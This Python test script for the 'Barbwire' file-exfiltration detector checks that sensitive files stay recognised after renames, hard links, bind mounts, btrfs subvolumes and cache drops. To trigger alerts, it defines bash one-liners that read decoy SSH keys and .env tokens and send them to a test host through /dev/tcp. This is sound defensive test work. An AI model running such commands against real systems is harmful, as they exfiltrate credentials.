#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""A sensitive file is known by every name, on a machine with many of them, with many mounts, and on btrfs: rows G03
(links), G04 (renamed) and G05 (bind mounts) of the techniques, after what used to make Barbwire forget.

usage: test-names.py [--long]     --long: the numbers of a large machine"""

import contextlib
import ctypes
import fcntl
import json
import os
import shutil
import struct
import subprocess
import sys
import tempfile
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../harness"))

import harness
import tap
import varlink
from cases import Scene, cases
from crowd import Crowd
from harness import touches
from net import HOST_V4
from tap import require, require_equal

LONG = "--long" in sys.argv
CROWD_UID, OWNER_UID, CUT_UID, EARLY_UID = 65001, 65002, 65003, 65004
# Open when barbwired starts.
EARLY_FILES = 5000
# Of the table of remembered files, what one user may have of one class.
CLASS_PART = 16
# Entries of deleted files are gone within this.
RELEASE_SECONDS = 20 * tap.SLOW
RELEASED = 200
# More than barbwired lets be when nothing else happens, of two classes, as each has its share.
UNMOUNTED = 1100
# Each with a copy of every mount of the host, as a container has. As many mounts of one file system were searched once.
NAMESPACES = 1000 if LONG else 300
LINKS = 200
# More names of a file than are examined, and more mounts of a file system than are searched.
LINKS_CUT = 1100
MOUNTS_CUT, MOUNTS_OF_EACH = 17000, 340
HARMLESS, CACHE_TRIES = 500, 3
CLONE_NEWNS = 0x20000
MS_BIND, MS_REC, MS_PRIVATE = 0x1000, 0x4000, 0x40000
FS_IOC_GETVERSION = 0x80087601  # include/uapi/linux/fs.h
READ = 'exec 3<>/dev/tcp/$2/443; exec cat "$1" >&3'


class Flood(Crowd):
    """A user has opened files of one class, more than that user's share of them, and one program of theirs goes on
    running. Files that were seen before, of that user and another, are made first."""

    def __init__(self, scene):
        self.scene = scene
        self.key, self.link = scene.key(OWNER_UID), scene.key(OWNER_UID)
        self.own = scene.secret(b".env", CROWD_UID)
        for path, _ in self.key, self.link, self.own:
            opened(path)
        opened(self.own[0], CROWD_UID)
        self.before = scene.files()
        first, _ = scene.secret(b".env", CROWD_UID)
        self.top, n = scene.many(CROWD_UID)
        super().__init__(scene.net, first, "opens", n, self.top, user=CROWD_UID, group=CROWD_UID, extra_groups=[])


class Named(Scene):
    def __init__(self, net, home):
        super().__init__(net, home, parent="/var/tmp")
        self.homes = f"{self.directory}/home"
        os.mkdir(self.homes)

    def status(self):
        with varlink.Connection(self.socket) as client:
            return client.call("io.barbwire.Barbwire.GetStatus")

    def learn(self):
        """What depends on the machine and the sensor."""
        self.share = next(t["max"] for t in self.status()["tables"] if t["name"] == "files") // CLASS_PART
        self.renames = self.status()["sensor"] != "tracepoint" or harness.kernel_version() >= (6, 13)

    def files(self):
        return next(t["live"] for t in self.status()["tables"] if t["name"] == "files")

    def losses(self):
        return {loss["cause"]: loss["count"] for loss in self.status()["losses"] if loss["count"]}

    def place(self, uid=0):
        """A home directory of that user."""
        path = tempfile.mkdtemp(dir=self.homes)
        os.chmod(path, 0o755)
        os.chown(path, uid, uid)
        return path

    def many(self, uid, n=None):
        """Directories 0, 1, … with a file .env each: by default more than that user's share of the class. Returns how
        many."""
        top, n = self.place(uid), n or self.share + 200
        for i in range(n):
            os.mkdir(f"{top}/{i}")
            with open(f"{top}/{i}/.env", "w", encoding="ascii") as out:
                out.write(f"TOKEN={i}\n")
            os.chmod(f"{top}/{i}/.env", 0o644)
        return top, n

    def secret(self, name, uid):
        """A file of that user in a home directory of its own: its path and its bytes."""
        path = os.path.join(self.place(uid).encode(), name)
        _, content = self.home.decoy(path)
        os.chown(path, uid, uid)
        os.chown(os.path.dirname(path), uid, uid)
        return path.decode(), content

    def key(self, uid):
        return self.secret(b".ssh/id_decoy", uid)

    def steal(self, what, path, content, uid=0, fits=None, command=READ):
        """The file by this name, sent: alerted by that name."""
        kwargs = {"user": uid, "group": uid, "extra_groups": []} if uid else {}
        result = self.net.run(["/bin/bash", "-c", command, "bash", path, HOST_V4], **kwargs)
        require_equal(result.returncode, 0, f"{what}: {result.stderr}")
        self.net.sink.wait_arrived(content)
        fits = fits or (lambda alert: touches(alert, path.encode()))
        self.bw.wait_alert(lambda a: a["destination"]["address"] == HOST_V4 and fits(a), what)


def opened(path, uid=0):
    """By a process that ends then: this one must not be marked."""
    subprocess.run(["cat", path], stdout=subprocess.DEVNULL, check=True, user=uid, group=uid, extra_groups=[])


def moved(path):
    """Renamed to where no class names it."""
    new = os.path.join(os.path.dirname(os.path.dirname(path)), "moved")
    os.rename(path, new)
    return new


def linked(path):
    new = os.path.join(os.path.dirname(os.path.dirname(path)), "linked")
    os.link(path, new)
    return new


# Moved into a namespace with many mounts, and the file read by way of one of a part of its file system.
BOUND = """
for i in $(seq 64); do mkdir "$3/m$i" && mount --bind "$(dirname "$1")" "$3/m$i" || exit 1; done
exec 3<>/dev/tcp/$2/443
exec cat "$3/m32/$(basename "$1")" >&3
"""


def bound(scene, what, path, content):
    """The file by way of a bind mount of its directory, in a mount namespace of the thief's."""
    work = scene.place()
    result = scene.net.run(["unshare", "--mount", "/bin/bash", "-c", BOUND, "bash", path, HOST_V4, work])
    require_equal(result.returncode, 0, f"{what}: {result.stderr}")
    scene.net.sink.wait_arrived(content)
    scene.bw.wait_alert(lambda a: a["destination"]["address"] == HOST_V4 and
                        touches(a, f"{work}/m32/{os.path.basename(path)}".encode()), what)


def caches_drop():
    os.sync()
    with open("/proc/sys/vm/drop_caches", "w", encoding="ascii") as drop:
        drop.write("3\n")


def another(scene, flood):
    """Another user's keys are known by their other names, whether they were opened before or not."""
    losses = scene.losses()
    shares = scene.bw.wait(lambda: [s for s in scene.bw.states if s["state"] == "share" and s["table"] == "files"],
                           harness.ALERT_TIMEOUT, "an alert that names the flooder")
    require_equal({s["uid"] for s in shares}, {CROWD_UID}, "the flooder")
    require_equal(shares[0]["comm"], "robust-crowder"[:15], "its program")
    path, content = flood.key
    scene.steal("a renamed key that was seen before", moved(path), content, OWNER_UID)
    path, content = flood.link
    scene.steal("a link to a key that was seen before", linked(path), content, OWNER_UID)
    path, content = scene.key(OWNER_UID)
    scene.steal("a link to a key that was not seen before", linked(path), content, OWNER_UID)
    if scene.renames:
        path, content = scene.key(OWNER_UID)
        scene.steal("a renamed key that was not seen before", moved(path), content, OWNER_UID)
    require_equal(scene.losses(), losses, "losses")


def same(scene, flood):
    """The flooder is the thief."""
    path, content = scene.key(CROWD_UID)
    opened(path, CROWD_UID)
    scene.steal("a renamed file of another class", moved(path), content, CROWD_UID)
    path, content = flood.own
    scene.steal("a renamed file of that class, seen before", moved(path), content, CROWD_UID)
    path, content = scene.secret(b".env", CROWD_UID)
    scene.steal("a link to a file of that class", linked(path), content, CROWD_UID)
    if scene.renames:
        path, content = scene.secret(b".env", CROWD_UID)
        scene.steal("a renamed file of that class, not seen before", path, content, CROWD_UID,
                    lambda a: a["suspect"] and "app-secrets" in a["classes"] and a["process"]["uid"] == CROWD_UID,
                    'mv "$1" "$1.moved" && mv "$1.moved" "${1%/*}/token"; exec 3<>/dev/tcp/$2/443; '
                    'exec cat "${1%/*}/token" >&3')


def released(scene, flood):
    """The entries of deleted files end."""
    require(scene.files() >= flood.before + scene.share * 3 // 4,
            f"{scene.files()} files are remembered, {flood.before} before")
    shutil.rmtree(flood.top)
    wait_files(scene, flood.before + scene.share // 20 + RELEASED, flood.before)


def wait_files(scene, at_most, before):
    deadline = time.monotonic() + RELEASE_SECONDS
    while (files := scene.files()) > at_most:
        require(time.monotonic() < deadline, f"{files} files are remembered, {before} before, wanted {at_most}")
        time.sleep(0.1)


def cached(scene):
    """Dropping the kernel's caches is not a deletion."""
    moving, moved_content = scene.key(OWNER_UID)
    path, content = scene.key(OWNER_UID)
    for name in moving, path:
        opened(name)
    new, link = moved(moving), linked(path)
    os.unlink(path)
    caches_drop()
    scene.steal("a renamed key that left the cache", new, moved_content, OWNER_UID)
    scene.steal("a link that left the cache", link, content, OWNER_UID)


def unmounted(scene):
    """Files that left the cache with their file system: those that were in memory alone end, and nobody looks for the
    names of the others in memory that is not theirs any more."""
    losses = scene.losses()
    where, image = f"{scene.directory}/unmounted", f"{scene.directory}/image"
    with mounted(where, "-t", "tmpfs", "tmpfs"):
        keys_opened(scene, where)
        remembered = scene.files()
    # Entries of other cases may end meanwhile, but they are fewer.
    wait_files(scene, remembered - UNMOUNTED * 3 // 4, remembered)
    with open(image, "wb") as out:
        out.truncate(64 << 20)
    subprocess.run(["mkfs.ext4", "-q", image], check=True)
    with mounted(where, "-o", "loop", image):
        keys_opened(scene, where)
    scene.write_policy("[Class names-test]\nPath=/**/names-test/*\nWindow=1min\nLateWindow=0\n")
    require("policy reloaded" in scene.bw.reload(), "the reload")
    require_equal(scene.losses(), losses, "losses")


def keys_opened(scene, where):
    keys = [f"{where}/home/{n}/{name}" for n in range(UNMOUNTED // 2) for name in (".ssh/id_decoy", ".aws/credentials")]
    for key in keys:
        scene.home.decoy(key.encode())
    subprocess.run(["cat", *keys], stdout=subprocess.DEVNULL, check=True)


@contextlib.contextmanager
def mounted(where, *options):
    os.makedirs(where, exist_ok=True)
    subprocess.run(["mount", *options, where], check=True)
    try:
        yield where
    finally:
        subprocess.run(["umount", "--lazy", where], check=True)


@contextlib.contextmanager
def namespaces(n, path=None, mounts=0):
    """That many processes, each in a mount namespace of its own, with so many mounts of this file there."""
    unshare = ctypes.CDLL(None, use_errno=True).unshare
    go, ready = os.pipe(), os.pipe()
    children = []
    try:
        for _ in range(n):
            pid = os.fork()
            if pid == 0:
                os.close(go[1])
                os.write(ready[1], b"y" if unshare(CLONE_NEWNS) == 0 and file_mounts(path, mounts) else b"n")
                os.read(go[0], 1)
                os._exit(0)
            children.append(pid)
        answers = b""
        while len(answers) < n:
            answers += os.read(ready[0], n)
        require_equal(answers, b"y" * n, "unshare(CLONE_NEWNS)")
        yield
    finally:
        os.close(go[1])
        for pid in children:
            os.waitpid(pid, 0)
        for fd in (go[0], *ready):
            os.close(fd)


def file_mounts(path, n):
    """Mounts a file over itself again and again, in this namespace."""
    mount = ctypes.CDLL(None, use_errno=True).mount
    private = n == 0 or mount(None, b"/", None, MS_REC | MS_PRIVATE, None) == 0
    return private and all(mount(path.encode(), path.encode(), None, MS_BIND, None) == 0 for _ in range(n))


def containers(scene, disk):
    """A file system of which no process has used the host's mount since barbwired started, and which has a thousand
    others: a key in it by way of a bind mount."""
    losses = scene.losses()
    with namespaces(NAMESPACES):
        bound(scene, "a key behind many mounts", *disk)
    require_equal(scene.losses(), losses, "losses")


def links(scene):
    """The latest of many links, and the name of the key that was opened last."""
    path, content = scene.key(OWNER_UID)
    top = scene.place()
    for n in range(LINKS):
        os.link(path, f"{top}/{n}")
    scene.steal(f"the latest of {LINKS} links", f"{top}/{LINKS - 1}", content)
    before = scene.losses().get("names_cut", 0)
    plain = f"{top}/plain"
    with open(plain, "w", encoding="ascii") as out:
        out.write("of no class\n")
    os.chmod(plain, 0o644)
    for n in range(LINKS_CUT):
        os.link(plain, f"{top}/plain{n}")
    opened(plain)
    require(scene.losses().get("names_cut", 0) > before, f"a file with {LINKS_CUT} links: its names were not cut")


class Cut:
    """A key with more links than are examined, which were made before barbwired started. Only its owner may read it."""

    def __init__(self, scene):
        self.path, self.content = scene.key(CUT_UID)
        top = scene.place(CUT_UID)
        for n in range(LINKS_CUT):
            os.link(self.path, f"{top}/{n}")
        self.last = f"{top}/{LINKS_CUT - 1}"


def cut(scene, key):
    """It may be of any class: the user and cgroup of a process that opens it are suspected."""
    before = scene.losses()
    scene.steal(f"the latest of {LINKS_CUT} links of a private file", key.last, key.content, CUT_UID,
                lambda a: a["suspect"] and touches(a, key.last.encode()) and "ssh-private-keys" in a["classes"])
    require_equal(scene.losses(), before, "losses")


def mounts_cut(scene, disk):
    """More mounts of a file system than are searched, none of which the host has used: its files are known by their
    names below its own root."""
    before = scene.losses().get("names_cut", 0)
    with namespaces(MOUNTS_CUT // MOUNTS_OF_EACH, disk[0], MOUNTS_OF_EACH):
        bound(scene, "a key behind too many mounts", *disk)
    if harness.kernel_version() >= (6, 18):  # before, the search begins with the oldest
        require(scene.losses().get("names_cut", 0) > before, f"{MOUNTS_CUT} mounts: the search was not cut")


def reloaded(scene):
    """A file that was renamed is known after the policy changes; one that it does not name any more is none."""
    policy = "[Class names-test]\nPath=/**/names-test/*\nWindow=1min\nLateWindow=0\n"
    scene.write_policy(policy)
    scene.bw.reload()
    moving, content = scene.key(OWNER_UID)
    gone, gone_content = scene.key(OWNER_UID)
    given_up, given_up_content = scene.secret(b"names-test/key", OWNER_UID)
    elsewhere, _ = scene.secret(b"names-test/moved-key", OWNER_UID)
    for path in moving, gone, given_up, elsewhere:
        opened(path)
    away, out_of_cache, elsewhere = moved(moving), moved(gone), moved(elsewhere)
    n = scene.files()
    scene.write_policy(policy + "ExcludePath=/**/names-test/key\n")
    require("policy reloaded" in scene.bw.reload(), "the reload")
    require_equal(scene.files(), n - 1, "remembered files: one is excluded now")
    scene.steal("a renamed key after a reload", away, content, OWNER_UID)
    caches_drop()
    scene.write_policy("")
    require("policy reloaded" in scene.bw.reload(), "the reload without that class")
    scene.steal("a renamed key that left the cache before a reload", out_of_cache, gone_content, OWNER_UID)
    for path in given_up, elsewhere:
        result = scene.net.run(["/bin/bash", "-c", READ, "bash", path, HOST_V4])
        require_equal(result.returncode, 0, result.stderr)
    scene.net.sink.wait_arrived(given_up_content)
    scene.bw.expect_no_alert(lambda a: touches(a, given_up.encode()) or touches(a, elsewhere.encode()), scene.net,
                             scene.home, "a file that the policy does not name any more")


def excluded(scene):
    """A file with two names, one of which a new policy excludes: it is sensitive by the other one, and therefore by
    both, whichever is used first."""
    policy = "[Class names-test]\nPath=/**/names-test/*\nWindow=1min\nLateWindow=0\n"
    scene.write_policy(policy)
    scene.bw.reload()
    for first in "key", "name":
        path, content = scene.secret(b"names-test/key", OWNER_UID)
        names = {"key": path, "name": f"{os.path.dirname(path)}/name"}
        os.link(path, names["name"])
        opened(path)
        scene.write_policy(policy + "ExcludePath=/**/names-test/key\n")
        require("policy reloaded" in scene.bw.reload(), "the reload")
        for name in first, *(names.keys() - {first}):
            scene.steal(f"{first} first, by {name}", names[name], content, OWNER_UID)
        scene.write_policy(policy)
        scene.bw.reload()
    scene.write_policy("")
    scene.bw.reload()


class Early:
    """Before barbwired starts: a user who has many files of a class open, and a thief of another user who has one."""
    HELD = 'exec 3<"$1"; echo ready; read; exec 4<>/dev/tcp/$2/443; exec cat <&3 >&4'

    def __init__(self, scene):
        self.scene = scene
        user = {"user": EARLY_UID, "group": EARLY_UID, "extra_groups": []}
        self.top, n = scene.many(EARLY_UID, EARLY_FILES)
        self.crowd = Crowd(scene.net, f"{self.top}/0/.env", "held", n, self.top, **user)
        self.key, self.content = scene.key(OWNER_UID)
        owner = {"user": OWNER_UID, "group": OWNER_UID, "extra_groups": []}
        self.thief = scene.net.popen(["/bin/bash", "-c", self.HELD, "bash", self.key, HOST_V4], stdin=subprocess.PIPE,
                                     stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, **owner)
        require_equal(self.thief.stdout.readline(), "ready\n", "the thief")

    def __enter__(self):
        self.crowd.__enter__()
        return self

    def __exit__(self, *exception):
        self.crowd.__exit__()
        self.thief.kill()
        self.thief.wait()
        shutil.rmtree(self.top)


def early(net, home):
    """What was open before is known, of all users within their shares."""
    scene = Named(net, home)
    with Early(scene) as world, scene.bw:
        scene.learn()
        known = min(EARLY_FILES, scene.share)
        require(scene.files() >= known, f"{scene.files()} files are remembered, not {known}")
        require_equal(scene.losses(), {}, "losses")
        _, errors = world.thief.communicate("go\n", harness.ALERT_TIMEOUT)
        require_equal(world.thief.returncode, 0, errors)
        net.sink.wait_arrived(world.content)
        scene.bw.wait_alert(lambda a: a["destination"]["address"] == HOST_V4 and touches(a, world.key.encode()),
                            "a key that was open before barbwired started", 1 * tap.SLOW)
        scene.steal("that key, renamed", moved(world.key), world.content, OWNER_UID)
        key, content = scene.key(EARLY_UID)
        scene.steal("a key of the user who has all these files open", key, content, EARLY_UID)
        scene.bw.stop()


class Btrfs:
    """A file system with subvolumes as distributions make them: @ and @home, with one subvolume within, each mounted
    where it belongs."""

    def __init__(self, scene):
        self.scene = scene
        self.stack = contextlib.ExitStack()

    def __enter__(self):
        try:
            return self.make()
        except BaseException:
            self.stack.close()
            raise

    def make(self):
        with open("/proc/filesystems", encoding="ascii") as known:
            if "\tbtrfs\n" not in known.read() and subprocess.run(["modprobe", "btrfs"], check=False).returncode:
                raise tap.Skip("this kernel has no btrfs", environment=True)
        if not shutil.which("mkfs.btrfs"):
            raise tap.Skip("btrfs-progs is not installed", environment=True)
        image = f"{self.scene.directory}/btrfs.img"
        with open(image, "wb") as out:
            out.truncate(256 << 20)
        subprocess.run(["mkfs.btrfs", "-q", image], check=True, stdout=subprocess.DEVNULL)
        device = subprocess.run(["losetup", "--find", "--show", image], check=True, capture_output=True,
                                text=True).stdout.strip()
        self.device = device
        self.stack.callback(subprocess.run, ["losetup", "--detach", device], check=True)
        top = f"{self.scene.directory}/top"
        with mounted(top, device):
            for name in "@", "@home", "@home/bob":
                subprocess.run(["btrfs", "-q", "subvolume", "create", f"{top}/{name}"], check=True)
            os.makedirs(f"{top}/@/home")
        self.root = f"{self.scene.directory}/btrfs"
        self.stack.enter_context(mounted(self.root, "-o", "subvol=@", device))
        self.stack.enter_context(mounted(f"{self.root}/home", "-o", "subvol=@home", device))
        return self

    def __exit__(self, *exception):
        self.stack.close()

    def key(self, home):
        path = f"{self.root}/home/{home}/.ssh/id_decoy"
        _, content = self.scene.home.decoy(path.encode())
        return path, content


def number_and_generation(path):
    """Of an inode."""
    with open(path, "rb") as file:
        return os.fstat(file.fileno()).st_ino, struct.unpack("=I", fcntl.ioctl(file, FS_IOC_GETVERSION, bytes(8))[:4])


def harmless():
    """The cache of files without a class: checksums. Only the programs hold it: it is the newest of its name."""
    shown = subprocess.run(["bpftool", "--json", "map", "show"], check=True, capture_output=True)
    newest = max(table["id"] for table in json.loads(shown.stdout) if table.get("name") == "bw_harmless")
    dump = subprocess.run(["bpftool", "--json", "map", "dump", "id", str(newest)], check=True, capture_output=True)
    return ["".join(entry["value"]) for entry in json.loads(dump.stdout)]


def subvolumes(scene):
    with Btrfs(scene) as btrfs:
        for home in "ana", "bob":
            path, content = btrfs.key(home)
            bound(scene, f"bind mount, {home}", path, content)
            scene.steal(f"a link, {home}", linked(path), content)
            scene.steal(f"renamed, seen before, {home}", moved(path), content)
        path, content = btrfs.key("cleo")
        with mounted(f"{scene.directory}/all", "-o", "subvolid=5", btrfs.device) as everything:
            scene.steal("by a mount of the complete file system", f"{everything}/@home/cleo/.ssh/id_decoy", content)
        same_number(scene, btrfs)
        if harness.kernel_version() >= (6, 2):
            cache_used(btrfs)


def same_number(scene, btrfs):
    """Files in two subvolumes with the same inode number and generation: what one has, the other has not."""
    names = [f"{btrfs.root}/same{n}" for n in range(2)]
    for name in names:
        subprocess.run(["btrfs", "-q", "subvolume", "create", name], check=True)
    for name in names:
        with open(f"{name}/file", "w", encoding="ascii") as out:
            out.write("a file that is not empty\n")
    same = {number_and_generation(f"{name}/file") for name in names}
    require_equal(len(same), 1, "inode numbers and generations of two files")
    key, content = scene.key(0)
    subprocess.run(["cp", key, f"{names[0]}/file"], check=True)
    result = scene.net.run(["/bin/bash", "-c", READ, "bash", f"{names[1]}/file", HOST_V4])
    require_equal(result.returncode, 0, result.stderr)
    scene.bw.expect_no_alert(lambda a: a["destination"]["address"] == HOST_V4 and touches(a, key.encode()), scene.net,
                             scene.home, "a file with the number of a marked one")
    scene.steal("the marked file", f"{names[0]}/file", content, 0, lambda a: touches(a, key.encode()))


def kept(directory, links):
    """How many entries of the cache change while files are opened there. Other processes may add some."""
    directory = tempfile.mkdtemp(dir=directory)
    names = [f"{directory}/plain{links}-{n}" for n in range(HARMLESS)]
    for name in names:
        with open(name, "w", encoding="ascii"):
            pass
        for n in range(1, links):
            os.link(name, f"{name}.{n}")
    before = harmless()
    for name in names:
        os.close(os.open(name, os.O_RDONLY))
    return sum(old != new for old, new in zip(before, harmless()))


def cache_used(btrfs):
    """Files without a class are judged once, unless they have a second name."""
    for subvolume in btrfs.root, f"{btrfs.root}/home":
        # The lowest of several, as other processes only add to it.
        linked_kept, plain_kept = (min(kept(subvolume, links) for _ in range(CACHE_TRIES)) for links in (2, 1))
        require(plain_kept > linked_kept + HARMLESS // 2,
                f"of {HARMLESS} files in {subvolume} {plain_kept} got an entry, {linked_kept} of those with two names")


def main():
    with cases() as (t, net, home):
        scene = Named(net, home)
        disk, other = f"{scene.directory}/disk", f"{scene.directory}/other"
        with mounted(disk, "-t", "tmpfs", "tmpfs"), mounted(other, "-t", "tmpfs", "tmpfs"):
            path, content = home.decoy(f"{disk}/home/ana/.ssh/id_decoy".encode())
            other_path, other_content = home.decoy(f"{other}/home/ana/.ssh/id_decoy".encode())
            many_links = Cut(scene)
            t.case(f"{EARLY_FILES} files were open before barbwired started", early, net, home)
            with scene.bw:
                scene.learn()
                t.case("many mounts", containers, scene, (path.decode(), content))
                t.case("too many mounts", mounts_cut, scene, (other_path.decode(), other_content))
                t.case("many links", links, scene)
                t.case("too many links", cut, scene, many_links)
                t.case("subvolumes of btrfs", subvolumes, scene)
                with Flood(scene) as flood:
                    t.case("a user fills their share of a class, the thief is another", another, scene, flood)
                    t.case("a user fills their share of a class, and is the thief", same, scene, flood)
                t.case("the entries of deleted files end", released, scene, flood)
                t.case("the kernel's caches are dropped", cached, scene)
                t.case("a file system is unmounted", unmounted, scene)
                t.case("the policy changes", reloaded, scene)
                t.case("the policy excludes one of two names", excluded, scene)
                scene.bw.stop()


if __name__ == "__main__":
    main()
